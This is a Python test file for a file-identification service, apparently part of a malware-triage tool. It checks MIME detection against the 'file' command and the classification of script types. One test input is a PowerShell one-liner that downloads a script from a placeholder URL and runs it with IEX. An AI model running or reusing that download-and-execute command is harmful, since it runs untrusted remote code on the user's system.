"""Identification agrees with ``file --mime-type`` across a varied corpus of real formats, written by the tests."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from assay.services.identify import classify, identify_bytes, identify_path
from tests.helpers.corpus import corpus

# What `file` (5.44, Debian 12) answered for the corpus this test used to sample from /usr and /etc;
# the generated corpus keeps every one of them and adds more.
SYSTEM_CORPUS_TYPES = {
    "text/plain", "text/x-c", "text/x-perl", "text/x-shellscript", "text/x-script.python", "text/html",
    "text/xml", "application/json", "application/pgp-keys", "application/gzip", "application/zip",
    "application/x-tar", "application/pdf", "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    "application/x-pie-executable", "application/x-sharedlib", "application/x-executable", "application/x-object",
    "application/x-gdbm", "application/octet-stream", "image/png", "image/svg+xml", "image/x-xpixmap",
}  # fmt: skip


def file_mime_types(paths: list[Path]) -> dict[Path, str]:
    answers: dict[Path, str] = {}
    for start in range(0, len(paths), 200):
        chunk = paths[start : start + 200]
        output = subprocess.run(
            ["file", "--mime-type", "-b", "--", *map(str, chunk)], capture_output=True, text=True, check=True
        ).stdout.splitlines()
        answers.update(zip(chunk, output, strict=True))
    return answers


def test_mime_types_agree_with_file_on_at_least_98_percent(tmp_path: Path) -> None:
    paths = corpus(tmp_path / "generated")
    assert len(paths) >= 500
    expected = file_mime_types(paths)
    answers = set(expected.values())
    assert not SYSTEM_CORPUS_TYPES - answers, "kinds the corpus no longer covers"
    assert len(answers) >= 40
    disagreements = []
    for path in paths:
        ours = identify_path(path).mime
        if ours != expected[path]:
            disagreements.append((str(path), ours, expected[path]))
    agreement = 1 - len(disagreements) / len(paths)
    assert agreement >= 0.98, disagreements[:20]


def test_types_follow_the_mime_table() -> None:
    assert (
        classify("application/x-dosexec", "PE32+ executable (GUI) x86-64, for MS Windows")
        == "executable/windows/pe64"
    )
    assert (
        classify("application/x-dosexec", "PE32 executable (DLL) (console) Intel 80386")
        == "executable/windows/dll32"
    )
    assert classify("application/x-sharedlib", "ELF 64-bit LSB shared object") == "executable/linux/elf64"
    assert classify("application/vnd.tcpdump.pcap", "pcap capture file") == "network/tcpdump"
    assert classify("image/png", "PNG image data") == "image/png"
    assert classify("application/x-nothing-known", "data") == "unknown"
    assert identify_bytes(b"").file_type == "empty"


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        (b'$c = New-Object System.Net.WebClient; IEX $c.DownloadString("http://x/a")', "code/powershell"),
        (b'Dim shell\nSet shell = CreateObject("WScript.Shell")\nshell.Run "calc"\n', "code/vbs"),
        (b"var a = 1;\nfunction f(x) { return x; }\nconst g = () => a;\n", "code/javascript"),
        (b"@echo off\nset TARGET=%~dp0\\x\ngoto :end\n", "code/batch"),
        (b"Dear diary, today was a plain text day.\n", "text/plain"),
    ],
)
def test_scripts_that_libmagic_calls_text_are_told_apart(text: bytes, kind: str) -> None:
    assert identify_bytes(text).file_type == kind
